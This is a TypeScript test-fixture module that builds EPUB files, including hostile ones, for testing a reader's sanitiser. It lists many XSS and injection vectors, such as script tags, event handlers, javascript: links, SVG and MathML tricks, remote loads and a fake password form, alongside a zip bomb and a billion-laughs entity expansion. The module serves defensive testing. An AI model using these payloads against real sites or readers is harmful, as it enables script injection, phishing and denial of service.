/** Makes EPUBs for tests: honest ones, and ones that try what an EPUB must not get away with. */

import { strToU8, zipSync } from 'fflate'

type Section = { name: string; title: string; body: string; head?: string }

export function makeEpub(
  title: string,
  sections: Section[],
  more: { files?: Record<string, Uint8Array | string>; dir?: string; language?: string } = {},
): Uint8Array {
  const files: Record<string, string | Uint8Array> = {
    'META-INF/container.xml': `<?xml version="1.0"?><container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="OEBPS/book.opf" media-type="application/oebps-package+xml"/></rootfiles></container>`,
    'OEBPS/book.opf': packageOf(title, sections, Object.keys(more.files ?? {}), more),
    'OEBPS/nav.xhtml': page(
      'Contents',
      `<nav epub:type="toc"><ol>${sections.map(({ name, title }) => `<li><a href="${name}.xhtml">${title}</a></li>`).join('')}</ol></nav>`,
    ),
  }
  for (const { name, title, body, head } of sections) files[`OEBPS/${name}.xhtml`] = page(title, body, head)
  for (const [name, content] of Object.entries(more.files ?? {}))
    files[name.startsWith('/') ? name.slice(1) : `OEBPS/${name}`] = content
  const packed = Object.entries(files).map(([name, content]) => [
    name,
    typeof content === 'string' ? strToU8(content) : content,
  ])
  return zipSync({ mimetype: [strToU8('application/epub+zip'), { level: 0 }], ...Object.fromEntries(packed) })
}

function page(title: string, body: string, head = '') {
  return `<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE html>
<html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops" xmlns:xlink="http://www.w3.org/1999/xlink">
<head><title>${title}</title>${head}</head><body>${body}</body></html>`
}

const TYPES: Record<string, string> = {
  png: 'image/png',
  svg: 'image/svg+xml',
  css: 'text/css',
  js: 'text/javascript',
}

function packageOf(
  title: string,
  sections: Section[],
  files: string[],
  { dir, language = 'en' }: { dir?: string; language?: string },
) {
  const items = sections.map(
    ({ name }) => `<item id="${name}" href="${name}.xhtml" media-type="application/xhtml+xml"/>`,
  )
  const others = files
    .filter((name) => !name.startsWith('/'))
    .map(
      (name, at) =>
        `<item id="f${at}" href="${name}" media-type="${TYPES[name.split('.').at(-1) ?? ''] ?? 'application/octet-stream'}"/>`,
    )
  return `<?xml version="1.0"?><package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="id">
<metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:identifier id="id">urn:test</dc:identifier><dc:title>${title}</dc:title><dc:creator>A. Writer</dc:creator><dc:language>${language}</dc:language></metadata>
<manifest><item id="nav" href="nav.xhtml" media-type="application/xhtml+xml" properties="nav"/>${items.join('')}${others.join('')}</manifest>
<spine${dir ? ` page-progression-direction="${dir}"` : ''}>${sections.map(({ name }) => `<itemref idref="${name}"/>`).join('')}</spine></package>`
}

/** One pixel. */
export const PNG = Uint8Array.from(
  atob('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='),
  (letter) => letter.charCodeAt(0),
)

/** Every way in that is known here; each would say so in `window.broken` or ask `outside` for something. */
export function attacks(outside: string): string {
  const say = (name: string) => `window.broken=(window.broken||[]).concat('${name}')`
  return `
<script>${say('script')}</script>
<script src="${outside}/script.js"></script>
<SCRIPT>${say('SCRIPT')}</SCRIPT>
<img src="x" onerror="${say('onerror')}" alt=""/>
<img src="${outside}/pixel.png" srcset="${outside}/wide.png 2x" alt="remote"/>
<img src="//${new URL(outside).host}/pixel2.png" alt=""/>
<svg xmlns="http://www.w3.org/2000/svg" onload="${say('svg onload')}"><script>${say('svg script')}</script><image href="${outside}/svg.png"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${say('foreign')}"></iframe></foreignObject><use href="${outside}/use.svg#x"/></svg>
<math xmlns="http://www.w3.org/1998/Math/MathML"><maction actiontype="statusline" xlink:href="javascript:${say('maction')}">x</maction><annotation-xml encoding="text/html"><img xmlns="http://www.w3.org/1999/xhtml" src="y" onerror="${say('annotation')}" alt=""/></annotation-xml></math>
<iframe src="${outside}/frame.html"></iframe><iframe srcdoc="&lt;script&gt;parent.broken=['srcdoc']&lt;/script&gt;"></iframe>
<object data="${outside}/object.swf"></object><embed src="${outside}/embed.swf"/>
<video src="${outside}/video.mp4" autoplay="autoplay" poster="${outside}/poster.png"></video><audio src="${outside}/audio.mp3" autoplay="autoplay"></audio>
<form id="lure" action="${outside}/form"><input name="password" autofocus="autofocus" onfocus="${say('onfocus')}"/><button>Sign in again</button></form>
<a id="js" href="javascript:${say('javascript link')}">javascript link</a>
<a id="odd" href=" java&#10;script:${say('odd link')}">odd link</a>
<a id="data" href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">data link</a>
<a id="own" href="/auth/v1/logout">own address</a>
<a id="out" href="${outside}/page">a page outside</a>
<base href="${outside}/"/><meta http-equiv="refresh" content="0;url=${outside}/refresh"/><link rel="stylesheet" href="${outside}/link.css"/><link rel="prefetch" href="${outside}/prefetch"/>
<style>@import url("${outside}/import.css"); body { background: url("${outside}/background.png") } .cover { position: fixed; inset: 0; z-index: 99999; background: red } header, main { display: none !important } @font-face { font-family: x; src: url("${outside}/font.woff2") } p { font-family: x }</style>
<div class="cover" style="position:fixed;inset:0;background:url(${outside}/inline.png)">cover</div>
<p id="root" onclick="${say('onclick')}" style="color:red">The text of the book stands here.</p>
<details open="open" ontoggle="${say('ontoggle')}"><summary>more</summary></details>
<template><img src="z" onerror="${say('template')}" alt=""/></template>
<x-widget onmouseover="${say('widget')}">widget</x-widget>`
}

export function hostileEpub(outside: string): Uint8Array {
  const body = attacks(outside)
  return makeEpub(
    'A hostile book',
    [
      {
        name: 'one',
        title: 'One',
        body,
        head: `<link rel="stylesheet" href="style.css"/><script src="script.js"></script><style>.cover{position:fixed}</style>`,
      },
      // no XHTML at all: what a browser makes of it
      {
        name: 'two',
        title: 'Two',
        body: `<p>Broken <b>markup<br><img src=q onerror="window.broken=['loose']">${body}`,
      },
    ],
    {
      files: {
        'style.css': `@import url("${outside}/book-import.css"); :host { position: fixed !important; inset: 0 } * { background: url("${outside}/book.png") } p { text-align: center; position: fixed; margin-left: -999px }`,
        'script.js': `window.broken=['book script']`,
        'drawing.svg': `<svg xmlns="http://www.w3.org/2000/svg"><script>parent.broken=['drawing']</script></svg>`,
      },
    },
  )
}

/** Says "DRM": its text is encrypted. */
export function protectedEpub(): Uint8Array {
  const encryption = `<encryption xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><enc:EncryptedData xmlns:enc="http://www.w3.org/2001/04/xmlenc#"><enc:EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#aes256-cbc"/></enc:EncryptedData></encryption>`
  return makeEpub('Locked', [{ name: 'one', title: 'One', body: '<p>x</p>' }], {
    files: { '/META-INF/encryption.xml': encryption },
  })
}

/** A small file that unpacks to very much. */
export function bombEpub(): Uint8Array {
  return makeEpub('A bomb', [{ name: 'one', title: 'One', body: '<p>x</p>' }], {
    files: { 'zeros.css': new Uint8Array(2 * 1024 * 1024) },
  })
}

/** Entities that would grow to a thousand million characters, in the package itself. */
export function laughingEpub(): Uint8Array {
  const grow = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join(
    '',
  )
  const container = `<?xml version="1.0"?><!DOCTYPE c [<!ENTITY l0 "lol">${grow}]><container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="&l9;"/></rootfiles></container>`
  return makeEpub('Laughs', [{ name: 'one', title: 'One', body: '<p>x</p>' }], {
    files: { '/META-INF/container.xml': container },
  })
}
